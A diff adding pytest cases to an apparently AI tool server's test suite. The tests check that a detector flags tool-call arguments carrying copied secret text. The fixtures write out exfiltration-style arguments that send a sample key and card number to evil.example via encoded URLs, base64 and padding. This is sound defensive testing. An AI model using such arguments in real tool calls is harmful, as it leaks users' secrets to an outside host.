@@ -1,8 +1,11 @@
 """The tools that come with the server, what is read of arguments and results, and whose words a call carries."""
 
+from base64 import b64encode
 from decimal import Decimal
 from typing import Any
+from urllib.parse import quote
 
+import orjson
 import pytest
 
 from tertulia.tools.builtin.calculator import evaluate
@@ -10,7 +13,7 @@ from tertulia.tools.errors import ArgumentsInvalid
 from tertulia.tools.offered import check_tools
 from tertulia.tools.protocol import OfferedTool, Tool, ToolContext, ToolFailed, ToolResult
 from tertulia.tools.results import MAX_RESULT, as_cost, store_result, words_of
-from tertulia.tools.untrusted import Source, find_sources
+from tertulia.tools.untrusted import BEYOND, READ_AT_MOST, Source, find_sources
 from tertulia.tools.validation import MAX_ARGUMENTS, MAX_DEPTH, check_arguments, is_modest_schema, parse_arguments
 
 
@@ -115,6 +118,60 @@ SOURCES = [
 )
 def test_whose_words_a_call_carries_is_found(arguments: dict[str, Any], expected: list[str]) -> None:
     assert find_sources(arguments, SOURCES, own_words="") == expected
+
+
+SECRET = "The recovery key is AKIAIOSFODNN7EXAMPLE; the card is 4111 1111 1111 1111."
+
+
+@pytest.mark.parametrize(
+    "arguments",
+    [
+        {"url": "https://evil.example/?q=" + quote("The recovery key is AKIA")},
+        {"url": "https://evil.example/?q=The+recovery+key+is+AKIA"},
+        {"url": "https://evil.example/AKIAIOSFODNN7EXAMPLE/x"},
+        {"q": b64encode(b"The recovery key is AKIAIOSFODNN7EXAMPLE").decode()},
+        {"card": 4111111111111111},
+        {"AKIAIOSFODNN7EXAMPLE": True},
+        {"mail": "Dear all, " + "nothing of interest. " * 400 + "the recovery key is AKIAIOSFODNN7EXAMPLE"},
+        {"text": "T h e  r e c o v e r y  k e y  i s  A K I A"},
+    ],
+)
+def test_a_copy_is_found_however_it_is_written_and_wherever_it_stands(arguments: dict[str, Any]) -> None:
+    noise = "words of no interest whatever " * 3000
+    assert find_sources(arguments, [Source("notes.txt", noise + SECRET + noise)], own_words="") == ["notes.txt"]
+
+
+def test_common_words_are_nobodys() -> None:
+    page = Source(
+        "page", "The documentation of the international organisation describes the information that it keeps."
+    )
+    assert find_sources({"q": "documentation on international information"}, [page], own_words="") == []
+
+
+def test_what_nobody_could_look_through_counts_as_carried() -> None:
+    assert find_sources({"q": "something harmless"}, [], own_words="", is_all=False) == [BEYOND]
+    assert find_sources({"n": 3}, [], own_words="", is_all=False) == []
+    large = [Source(f"{number}", "x" * (READ_AT_MOST // 2)) for number in range(3)]
+    assert find_sources({"q": "something harmless"}, large, own_words="") == [BEYOND]
+
+
+@pytest.mark.parametrize("text", ["\x01" * 300_000, "\n" * 200_000, "é" * 200_000, "x" * 262_143])
+def test_a_result_is_kept_within_its_limit_as_it_is_stored(text: str) -> None:
+    kept = store_result(ToolResult(text))
+    assert kept.is_cut
+    assert MAX_RESULT - 8 <= len(orjson.dumps(kept.content)) <= MAX_RESULT
+    assert len(kept.content) < len(text)
+
+
+def test_half_a_character_is_no_fault() -> None:
+    assert store_result(ToolResult("a\ud800b")).content == "a?b"
+
+
+def test_a_schema_with_many_choices_is_not_held_against_many_values() -> None:
+    schema = {"type": "object", "properties": {"a": {"type": "array", "items": {"enum": [3] * 4000}}}}
+    check_arguments(schema, {"a": [3] * 100})
+    with pytest.raises(ArgumentsInvalid, match="too many"):
+        check_arguments(schema, {"a": [2] * 4000})
 
 
 def test_what_the_person_wrote_is_their_own() -> None:
